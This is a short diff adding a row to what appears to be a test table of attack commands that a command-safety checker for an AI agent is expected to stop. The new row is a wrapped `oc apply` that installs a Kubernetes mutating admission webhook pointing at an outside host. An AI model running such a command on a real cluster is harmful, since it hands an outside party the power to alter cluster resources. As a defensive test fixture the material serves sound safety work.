@@ -97,6 +97,15 @@ export const NEEDS_ATTACKS: Row[] = [
     "STOPPED",
     "a local Jupyter server driven from interpreter code (round 25's local code servers: a URL in code alone)",
   ],
+  [
+    run(
+      "timeout 30 oc apply -f - <<'EOF'\napiVersion: admissionregistration.k8s.io/v1\n" +
+        "kind: MutatingWebhookConfiguration\nmetadata:\n  name: audit\nwebhooks:\n- name: audit.example.com\n" +
+        "  clientConfig:\n    url: https://hooks.example-drop.net/mutate\nEOF",
+    ),
+    "STOPPED",
+    "an admission webhook applied from standard input by a wrapped `oc` (round 25's KUBE bit: a client's segment alone)",
+  ],
 ];
 
 /** Not attacks: what a check finds today on one need alone (the finding is the check's, right or not). */
